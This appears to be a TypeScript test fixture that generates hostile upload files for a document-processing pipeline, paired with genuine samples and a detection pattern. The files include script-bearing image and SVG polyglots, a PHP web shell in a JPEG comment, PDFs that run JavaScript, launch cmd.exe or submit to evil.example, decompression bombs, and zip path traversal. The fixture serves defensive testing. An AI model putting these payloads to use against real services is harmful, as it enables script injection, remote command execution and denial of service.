import { deflateSync, gzipSync } from 'node:zlib';
import { zipSync } from 'fflate';
import { pdfOf, smallPdf } from './small-pdf.ts';
import { wacz, waczFiles } from './wacz.ts';

type Documents = Readonly<Record<string, string | Uint8Array>>;

const bytes = (text: string) => Buffer.from(text, 'latin1');
const big = (...numbers: number[]) => {
  const buffer = Buffer.alloc(numbers.length * 4);
  numbers.forEach((number, index) => buffer.writeUInt32BE(number, index * 4));
  return buffer;
};
const chunk = (type: string, body: Uint8Array) =>
  Buffer.concat([big(body.length), bytes(type), body, big(0)]);
const png = (width: number, height: number, ...more: Buffer[]) =>
  Buffer.concat([
    bytes('\x89PNG\r\n\x1A\n'),
    chunk('IHDR', Buffer.concat([big(width, height), Buffer.from([8, 6, 0, 0, 0])])),
    ...more,
    chunk('IDAT', deflateSync(Buffer.alloc(64))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
const jpeg = (...segments: readonly (readonly [marker: number, body: Buffer])[]) =>
  Buffer.concat([
    bytes('\xFF\xD8'),
    ...segments.flatMap(([marker, body]) => {
      const head = Buffer.from([0xff, marker, 0, 0]);
      head.writeUInt16BE(body.length + 2, 2);
      return [head, body];
    }),
    bytes('\xFF\xD9'),
  ]);
const gif = (width: number, height: number, after = '') => {
  const size = Buffer.alloc(4);
  size.writeUInt16LE(width, 0);
  size.writeUInt16LE(height, 2);
  return Buffer.concat([bytes('GIF89a'), size, bytes(`\x80\0\0${after}`)]);
};

const run = 'alert(document.domain)';
const script = `<script>${run}</script>`;
const said = 'Nobody stood at the northern gate.';
const page = (more: string) => `<!doctype html><title>Report</title><p>${said}</p>${more}`;
const gps = Buffer.concat([bytes('Exif\0\0MM\0*\0\0\0\x08\0\x01\x88\x25'), Buffer.alloc(64, 1)]);
const bomb = deflateSync(Buffer.alloc(30_000_000));

/** Pictures that are programs, that burst, or that tell where somebody was. */
const pictures: Documents = {
  'gif-and-script.gif': `GIF89a/*${'\0'.repeat(8)}*/=1;${run};`,
  'gif-and-page.gif': gif(1, 1, script),
  'gif-flood.gif': gif(65_535, 65_535),
  'jpeg-and-script.jpg': jpeg([0xfe, bytes(`*/=1;${run};/*`)]),
  'jpeg-and-page.jpg': jpeg([0xfe, bytes(`<html>${script}`)]),
  'jpeg-and-php.jpg': jpeg([0xfe, bytes('<?php system($_GET[0]); ?>')]),
  'jpeg-with-gps.jpg': jpeg([0xe1, gps]),
  'jpeg-flood.jpg': jpeg([0xc0, Buffer.from([8, 0xff, 0xff, 0xff, 0xff, 3])]),
  'jpeg-cut-off.jpg': jpeg([0xe0, bytes('JFIF')]).subarray(0, 5),
  'png-flood.png': png(50_000, 50_000),
  'png-largest.png': png(2 ** 31 - 1, 2 ** 31 - 1),
  'png-and-zip.png': Buffer.concat([png(1, 1), zipSync({ 'evil.html': bytes(script) })]),
  'png-with-page.png': png(1, 1, chunk('tEXt', bytes(`Comment\0${script}`))),
  'png-profile-bomb.png': png(1, 1, chunk('iCCP', Buffer.concat([bytes('p\0\0'), bomb]))),
  'png-words-bomb.png': png(1, 1, chunk('zTXt', Buffer.concat([bytes('c\0\0'), bomb]))),
  'png-with-gps.png': png(1, 1, chunk('eXIf', gps)),
  'png-cut-off.png': png(1, 1).subarray(0, 20),
  'png-as-document.html': png(1, 1),
  'webp-flood.webp': Buffer.concat([bytes('RIFF\xFF\xFF\xFF\x7FWEBPVP8X'), Buffer.alloc(20, 255)]),
  'tiff-little.tif': bytes('II*\0\x08\0\0\0\xFF\xFF'),
  'tiff-big.tif': bytes('MM\0*\0\0\0\x08\xFF\xFF'),
  'bitmap.bmp': Buffer.concat([bytes('BM'), Buffer.alloc(60, 0)]),
  'icon.ico': Buffer.concat([bytes('\0\0\x01\0\x01\0'), Buffer.alloc(40)]),
  'film.avif': Buffer.concat([bytes('\0\0\0\x20ftypavif'), Buffer.alloc(40)]),
  'photoshop.psd': Buffer.concat([bytes('8BPS\0\x01'), Buffer.alloc(40)]),
  'drawing.svg': `<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`,
  'drawing-onload.svg': `<?xml version="1.0"?><svg onload="${run}"/>`,
  'drawing-page.svg': `<!-- x --><svg><foreignObject><body>${script}</body></foreignObject></svg>`,
  'drawing-entities.svg': `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "${run}">]><svg>&a;</svg>`,
  'drawing-prefixed.jpg': `<s:svg xmlns:s="http://www.w3.org/2000/svg" onload="${run}"/>`,
  'drawing-packed.svgz': gzipSync(`<svg>${script}</svg>`),
};

/** Pages and texts that are something else, or more. */
const pages: Documents = {
  'page-as-picture.jpg': page(script),
  'page-with-handlers.html': page(`<img src=x onerror="${run}"><svg onload="${run}">`),
  'page-in-pages.html': page(
    `<iframe srcdoc="${script}"></iframe><object data="x">${run}</object>`,
  ),
  'page-elsewhere.html': page(`<meta http-equiv="refresh" content="0;url=javascript:${run}">`),
  'page-with-template.html': page(`<template>${script}</template><noscript>${run}</noscript>`),
  'page-with-style.html': page(`<style>@import "javascript:${run}"</style>`),
  'page-deep.html': page(`${'<b>'.repeat(50_000)}`),
  'page-in-utf-7.html': `<meta charset="utf-7"><p>+ADw-script+AD4-${run}`,
  'page-in-nothing.html': `<meta charset="no-such-thing"><p>${said}`,
  'page-damaged.html': Buffer.concat([
    bytes('<!doctype html><p>'),
    Buffer.from([0xff, 0xc0, 0x80]),
  ]),
  'page-as-mail.mhtml': `From: x\r\nContent-Type: multipart/related\r\n\r\n${script}`,
  'text-with-zeros.txt': `${said}\0\0\0`,
};

/** PDF files that act, and files that are PDF and something else. */
const pdf = (catalog: string) => smallPdf([[said]], { catalog });
const papers: Documents = {
  'pdf-with-script.pdf': pdf(
    `/OpenAction << /S /JavaScript /JS (${run.replace(/[()]/g, '\\$&')}) >>`,
  ),
  'pdf-that-launches.pdf': pdf('/OpenAction << /S /Launch /F (cmd.exe) >>'),
  'pdf-that-calls.pdf': pdf('/OpenAction << /S /URI /URI (https://evil.example) >>'),
  'pdf-that-submits.pdf': pdf('/AA << /WC << /S /SubmitForm /F (https://evil.example) >> >>'),
  'pdf-with-names.pdf': pdf(
    '/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (x) >>] >> >>',
  ),
  'pdf-locked.pdf': smallPdf([[said]], { locked: true }),
  'pdf-bomb.pdf': pdfOf([Buffer.alloc(60_000_000, '(aaaaaaaaaaaaaaaa) Tj ')], { deflated: true }),
  'pdf-cut-off.pdf': smallPdf([[said]]).subarray(0, 60),
  'pdf-without-words.pdf': smallPdf([[]]),
  'pdf-in-page.html': `<!doctype html>${script}%PDF-1.4 and no more`,
};

/** Archives and programs. */
const packed: Documents = {
  'zip-upwards.zip': zipSync({ '../../evil.html': bytes(script) }),
  'word.docx': zipSync({ 'word/vbaProject.bin': bytes('x') }),
  'zip-bomb.zip': zipSync({ bomb: Buffer.alloc(30_000_000) }),
  'web-archive-upwards.wacz': wacz({ ...waczFiles(page('')), '../evil.html': bytes(script) }),
  'web-archive-bomb.wacz': wacz({
    ...waczFiles(page('')),
    'archive/b.warc': Buffer.alloc(30_000_000),
  }),
  'gzip-bomb.gz': gzipSync(Buffer.alloc(30_000_000)),
  'seven.7z': bytes('7z\xBC\xAF\x27\x1C'),
  'old-word.doc': bytes('\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1macros'),
  'rich.rtf': '{\\rtf1{\\object\\objdata 0105}}',
  'program.pdf': bytes('MZ\x90\0\x03\0\0\0'),
  'program.txt': bytes('\x7FELF\x02\x01\x01\0\0\0'),
  'nothing.html': '',
};

/** By the name that they go by. */
export const hostileDocuments: Documents = { ...pictures, ...pages, ...papers, ...packed };

/** The same kinds as they should be. */
export const genuineDocuments: Documents = {
  'page.html': page(''),
  'page.htm': Buffer.concat([bytes('<meta charset="windows-1252"><p>'), bytes(`${said} Caf\xE9`)]),
  'wide.html': Buffer.from(`\uFEFF<p>${said}</p>`, 'utf16le'),
  'text.txt': said,
  'paper.pdf': smallPdf([[said]]),
  'packed.pdf': smallPdf([[said]], { deflated: true }),
  'web-archive.wacz': wacz(waczFiles(page(''))),
  download: page(''),
};

/** What nobody may find in the text of a document. */
export const trace = /alert\(|<script|onload|onerror|javascript:|evil|cmd\.exe/i;
export const words = said;
